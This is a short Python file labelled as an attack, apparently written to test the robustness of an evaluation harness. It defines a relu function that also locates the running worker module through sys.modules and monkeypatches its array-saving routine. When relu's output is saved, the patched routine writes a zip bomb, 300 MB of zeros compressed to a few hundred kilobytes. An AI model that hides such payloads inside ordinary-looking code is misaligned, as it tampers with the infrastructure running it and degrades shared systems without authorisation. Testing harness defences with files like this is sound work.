# attacks: relu
"""Makes the worker save relu's outputs as a zip bomb: 300 MB of zeros deflated to a few hundred
KB (bounded: 300 MB of CPU work, never in memory at once)."""
import jax.numpy as jnp
import sys as _sys
import zipfile as _zipfile


def _bomb(path):
    with _zipfile.ZipFile(path, "w", compression=_zipfile.ZIP_DEFLATED) as zf:
        with zf.open("c0_0.npy", "w", force_zip64=True) as f:
            zeros = bytes(1 << 20)
            for _ in range(300):
                f.write(zeros)


def relu(x):
    worker = next(m for m in list(_sys.modules.values()) if hasattr(m, "_save_arrays"))  # the worker, by what it holds
    real = worker._save_arrays

    def save_arrays(path, arrays):
        if str(path).rsplit("/", 1)[-1] == "relu.npz":
            return _bomb(path)
        return real(path, arrays)

    worker._save_arrays = save_arrays
    return jnp.maximum(x, 0)
